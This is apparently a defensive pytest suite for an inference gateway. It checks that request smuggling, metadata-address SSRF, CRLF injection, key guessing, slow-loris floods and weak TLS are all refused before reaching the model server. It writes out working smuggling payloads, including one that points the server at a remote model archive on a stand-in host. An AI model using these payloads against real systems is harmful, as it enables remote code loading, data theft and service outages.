"""Attacks through the gateway: what is sent, and that the server never hears of it."""

from __future__ import annotations

import contextlib
import http.client
import secrets
import socket
import ssl
import time

import pytest

from tests.ops.gateway.fake_server import FakeServer, wait_until
from tests.ops.gateway.gateway_process import PREDICT, GatewayProcess

SECRET = "QqTweetOfAPrivatePersonQq"


def raw(gateway: GatewayProcess, *headers: str, body: str = "", line: str = f"POST {PREDICT} HTTP/1.1") -> bytes:
    """Write a request with a good key down, wrong or not."""
    lines = [line, "Host: localhost", f"Authorization: Bearer {gateway.key}", "Connection: close", *headers]
    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode("latin-1")


SMUGGLED = f"POST /models?url=http://evil.example/evil.mar HTTP/1.1\r\nHost: localhost\r\nX-Tweet: {SECRET}\r\n\r\n"


@pytest.mark.parametrize(
    ("headers", "body"),
    [
        (("Content-Length: 4", "Transfer-Encoding: chunked"), "0\r\n\r\n" + SMUGGLED),
        (("Transfer-Encoding: chunked", "Content-Length: 4"), "0\r\n\r\n" + SMUGGLED),
        (("Content-Length: 0", f"Content-Length: {len(SMUGGLED)}"), SMUGGLED),
        (("Content-Length: 0, 5",), SMUGGLED),
        (("Content-Length: +5",), SMUGGLED),
        (("Content-Length: -1",), SMUGGLED),
        (("Content-Length: 0x10",), SMUGGLED),
        (("Transfer-Encoding: xchunked",), "0\r\n\r\n" + SMUGGLED),
        (("Transfer-Encoding: chunked, identity",), "0\r\n\r\n" + SMUGGLED),
        (("Transfer-Encoding: chunked", "Transfer-Encoding: chunked"), "0\r\n\r\n" + SMUGGLED),
        (("Transfer-Encoding: chunked",), "zz\r\n" + SMUGGLED),
        (("Transfer-Encoding: chunked",), "fffffffffffffffff\r\n" + SMUGGLED),
        (("Host: evil.example", "Content-Length: 0"), ""),
        (("no colon at all", "Content-Length: -1"), ""),
    ],
)
def test_smuggling_when_tried_then_4xx_and_server_hears_nothing(
    fake_gateway: GatewayProcess, fake: FakeServer, headers: tuple[str, ...], body: str
) -> None:
    answer = fake_gateway.send_raw(raw(fake_gateway, *headers, body=body))
    assert answer.startswith((b"HTTP/1.1 400", b"HTTP/1.1 501"))
    assert b'{"error":{"code":"' in answer
    assert answer.count(b"HTTP/1.1") == 1
    assert [one.path for one in fake.received] == []


@pytest.mark.parametrize(
    ("headers", "body"),
    [
        (("Transfer-Encoding : chunked", "Content-Length: 4"), "fire"),  # nginx drops a name with a space
        (("Transfer_Encoding: chunked", "Content-Length: 4"), "fire"),
        (("X: y\r\n folded: z", "Content-Length: 4"), "fire"),
        (
            ("Transfer-Encoding: chunked",),
            "4;x=\r\nfire\r\n0\r\n\r\n" + SMUGGLED,
        ),  # CVE-2026-33870 of the server's netty
        (("Transfer-Encoding: chunked",), '4;x="\r\n";\r\nfire\r\n0\r\n\r\n' + SMUGGLED),
        (("Content-Length: 4",), "fire" + SMUGGLED),
        (("Transfer-Encoding: chunked",), "4\r\nfire\r\n0\r\nX-Trailer: describe\r\n\r\n"),
    ],
)
def test_ambiguous_request_when_sent_then_server_gets_it_plain_or_not_at_all(
    fake_gateway: GatewayProcess, fake: FakeServer, headers: tuple[str, ...], body: str
) -> None:
    answer = fake_gateway.send_raw(raw(fake_gateway, *headers, body=body))
    assert answer.count(b"HTTP/1.1") == 1
    assert answer.startswith((b"HTTP/1.1 200", b"HTTP/1.1 400"))
    for one in fake.received:
        assert (one.path, one.body) == (PREDICT, b"fire")
        assert "transfer-encoding" not in one.headers
        assert set(one.headers) <= {"host", "content-length", "x-request-id", "x-deadline-ms"}
    assert len(fake.received) <= 1


@pytest.mark.parametrize(
    ("line", "status"),
    [
        (f"POST http://evil.example{PREDICT} HTTP/1.1", 421),
        (f"POST https://localhost{PREDICT} HTTP/1.1", 200),
        (f"POST {PREDICT}#x HTTP/1.1", 200),
        (f"POST /./predictions//tweets?{SECRET} HTTP/1.1", 200),
        ("POST /%70redictions/tweets HTTP/1.1", 200),
        ("POST /predictions/%00tweets HTTP/1.1", 400),
        ("POST /predictions/tweets%0d%0aX:%20y HTTP/1.1", 404),
        ("POST * HTTP/1.1", 400),
        ("POST predictions/tweets HTTP/1.1", 400),
        (f"POST {PREDICT} HTTP/9.9", 505),
        (f"POST {PREDICT}", 400),
        (f"P\u00d6ST {PREDICT} HTTP/1.1", 400),
        (f"POST /{'x' * 9000} HTTP/1.1", 414),
        ("GET http://169.254.169.254/latest/meta-data/ HTTP/1.1", 421),
    ],
)
def test_address_line_when_strange_then_one_meaning_for_both(
    fake_gateway: GatewayProcess, fake: FakeServer, line: str, status: int
) -> None:
    answer = fake_gateway.send_raw(raw(fake_gateway, "Content-Length: 0", line=line))
    if answer.startswith(b"HTTP/1.1"):
        assert int(answer.split(b" ")[1]) == status
    else:
        assert status == 400  # HTTP/0.9 has no status line
    assert {one.path for one in fake.received} <= {PREDICT}


def test_host_when_foreign_then_421(fake_gateway: GatewayProcess, fake: FakeServer) -> None:
    for host in ("evil.example", "localhost.evil.example", "127.0.0.1.evil.example"):
        answer = fake_gateway.ask(body=b"x", headers={"Host": host})
        assert (answer.status, answer.code) == (421, "WRONG_HOST")
    assert fake.received == []


def test_cross_site_post_when_a_page_sends_it_then_401_and_no_permission(
    fake_gateway: GatewayProcess, fake: FakeServer
) -> None:
    headers = {"Origin": "https://evil.example", "Content-Type": "text/plain"}
    answer = fake_gateway.ask(body=b"x", headers=headers, key=None)
    assert answer.status == 401
    assert not [name for name in answer.headers if name.startswith("access-control")]
    assert fake_gateway.ask("OPTIONS", headers=headers, key=None).status == 405
    assert fake.received == []


def test_key_guessing_when_hundreds_are_tried_then_all_401(fake_gateway: GatewayProcess, fake: FakeServer) -> None:
    own = fake_gateway.key
    guesses = ["", "x", own[:-1], own + "x", own.upper(), own.split("_")[1], own.rpartition("_")[0], "\u00e9" * 40]
    guesses += [f"dtk_{secrets.token_hex(4)}_{secrets.token_urlsafe(32)}" for _ in range(200)]
    context = fake_gateway.tls
    with contextlib.closing(
        http.client.HTTPSConnection("127.0.0.1", fake_gateway.settings.rest_address.port, context=context)
    ) as connection:
        for guess in guesses:
            connection.request(
                "POST", PREDICT, body=b"x", headers={"Authorization": f"Bearer {guess}".encode("latin-1")}
            )
            answer = connection.getresponse()
            assert answer.status == 401
            assert answer.getheader("WWW-Authenticate") == "Bearer"
            answer.read()
    for header in ({"Authorization": own}, {"Authorization": f"Basic {own}"}, {"X-Api-Key": own}, {"token": own}):
        assert fake_gateway.ask(body=b"x", headers=header, key=None).status == 401
    assert fake_gateway.ask(path=f"{PREDICT}?token={own}", body=b"x", key=None).status == 401
    assert fake.received == []


def test_body_when_too_large_then_413_announced_or_not(fake_gateway: GatewayProcess, fake: FakeServer) -> None:
    limit = fake_gateway.settings.max_body_bytes
    announced = fake_gateway.send_raw(raw(fake_gateway, f"Content-Length: {limit + 1}", "Expect: 100-continue"))
    assert announced.startswith(b"HTTP/1.1 413")
    assert b'"BODY_TOO_LARGE"' in announced
    piece = f"{1 << 20:x}\r\n{'x' * (1 << 20)}\r\n" * (limit // (1 << 20) + 1)
    chunked = fake_gateway.send_raw(raw(fake_gateway, "Transfer-Encoding: chunked", body=piece + "0\r\n\r\n"))
    assert chunked.startswith(b"HTTP/1.1 413")
    assert fake.received == []
    assert fake_gateway.ask(body=b"x" * limit).status == 200
    assert len(fake.received[0].body) == limit


@pytest.mark.parametrize("count", [1, 100], ids=["one long header", "many headers"])
def test_header_when_too_large_then_431(fake_gateway: GatewayProcess, fake: FakeServer, count: int) -> None:
    headers = [f"X-{number}: {'x' * (40_000 // count)}" for number in range(count)]
    answer = fake_gateway.send_raw(raw(fake_gateway, *headers, "Content-Length: 0"))
    assert answer.startswith(b"HTTP/1.1 431")
    assert b'"HEADER_TOO_LARGE"' in answer
    assert fake.received == []


def test_slow_clients_when_they_drip_then_cut_off_and_others_served(
    fake_gateway: GatewayProcess, fake: FakeServer
) -> None:
    """Slow-loris on the header and on the body: 60 connections that send a byte at a time."""
    began = time.monotonic()
    whole = raw(fake_gateway, "Content-Length: 400")
    beginnings = [whole[: len(whole) // 2], whole]
    with contextlib.ExitStack() as stack:
        connections: list[ssl.SSLSocket] = []
        for number in range(60):
            plain = stack.enter_context(
                socket.create_connection(("127.0.0.1", fake_gateway.settings.rest_address.port), timeout=20)
            )
            connections.append(stack.enter_context(fake_gateway.tls.wrap_socket(plain, server_hostname="127.0.0.1")))
            connections[-1].sendall(beginnings[number % 2])
        assert fake_gateway.predict("a neighbour").status == 200
        ends = []
        for connection in connections:
            with contextlib.suppress(OSError):
                while connection.recv(4096):
                    pass
            ends.append(time.monotonic() - began)
    assert max(ends) < 30  # 1 s in these settings; the machine may be slow
    assert [one.body for one in fake.received] == [b"a neighbour"]


def test_plain_http_when_spoken_to_the_tls_port_then_400(fake_gateway: GatewayProcess, fake: FakeServer) -> None:
    port = fake_gateway.settings.rest_address.port
    with contextlib.closing(http.client.HTTPConnection("127.0.0.1", port, timeout=20)) as connection:
        connection.request("POST", PREDICT, body=b"x", headers={"Authorization": f"Bearer {fake_gateway.key}"})
        assert connection.getresponse().status == 400
    assert fake.received == []


@pytest.mark.filterwarnings("ignore:ssl.TLSVersion:DeprecationWarning")
@pytest.mark.parametrize("version", [ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1])
def test_tls_when_older_than_1_2_then_no_connection(fake_gateway: GatewayProcess, version: ssl.TLSVersion) -> None:
    context = fake_gateway.tls
    context.set_ciphers("ALL:@SECLEVEL=0")
    context.minimum_version = ssl.TLSVersion.TLSv1
    context.maximum_version = version
    with pytest.raises(ssl.SSLError):
        fake_gateway.ask(body=b"x", tls=context)


@pytest.mark.parametrize("version", [ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3])
def test_tls_when_1_2_or_1_3_then_answered(fake_gateway: GatewayProcess, version: ssl.TLSVersion) -> None:
    context = fake_gateway.tls
    context.minimum_version = context.maximum_version = version
    assert fake_gateway.ask(body=b"x", tls=context).status == 200


def test_tls_when_a_weak_cipher_is_all_the_client_has_then_no_connection(fake_gateway: GatewayProcess) -> None:
    context = fake_gateway.tls
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    context.set_ciphers("AES128-SHA:ECDHE-ECDSA-AES128-SHA:@SECLEVEL=0")
    with pytest.raises(ssl.SSLError):
        fake_gateway.ask(body=b"x", tls=context)


def test_text_when_put_anywhere_in_a_request_then_in_no_file_of_the_gateway(
    fake_gateway: GatewayProcess, fake: FakeServer
) -> None:
    fake.plan = ["ok", 503, 500, 500, 500, (400, {"error": {"code": "EMPTY_TEXT", "message": "m"}}), "hang"]
    for _ in range(5):
        fake_gateway.predict(SECRET)
    fake_gateway.ask(
        path=f"/{SECRET}?{SECRET}", body=SECRET.encode(), headers={"X-Tweet": SECRET, "User-Agent": SECRET}
    )
    fake_gateway.ask(
        path=f"{PREDICT}?text={SECRET}", body=b"x", headers={"Referer": SECRET, "X-Request-Id": f"{SECRET} "}
    )
    fake_gateway.send_raw(raw(fake_gateway, f"Content-Length: {10**9}", f"X-Tweet: {SECRET}"))
    fake_gateway.send_raw(raw(fake_gateway, "Content-Length: 0", line=f"{SECRET.upper()} /{SECRET} HTTP/1.1"))
    fake_gateway.send_raw(raw(fake_gateway, "Content-Length: -1", line=f"POST {PREDICT}?{SECRET} HTTP/1.1"))
    fake_gateway.ask(body=SECRET.encode() * 20_000)  # larger than the buffer: goes through a temporary file
    assert wait_until(lambda: fake_gateway.access_lines()[-1]["bytes_in"] > len(SECRET) * 20_000)
    logged = fake_gateway.logged().lower()
    assert SECRET.lower() not in logged.replace(f'"request_id":"{SECRET}"'.lower(), "")
    assert fake_gateway.key not in logged
    assert '"route":"predict"' in logged
